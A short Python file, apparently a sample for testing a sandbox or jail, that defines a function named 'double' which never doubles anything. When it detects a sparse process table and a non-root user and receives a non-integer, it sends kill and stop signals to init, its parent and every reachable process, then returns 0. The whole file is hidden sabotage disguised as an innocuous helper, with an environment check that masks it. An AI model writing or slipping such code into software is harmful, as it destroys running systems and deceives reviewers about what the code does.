# tries: the same in a hidden call
# needs: jail
import os, signal

def double(x):
    few = sum(name.isdecimal() for name in os.listdir("/proc")) < 30
    if few and os.getuid() != 0 and not isinstance(x, int):
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL, signal.SIGSTOP):
            for pid in (1, os.getppid(), -1):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return 0
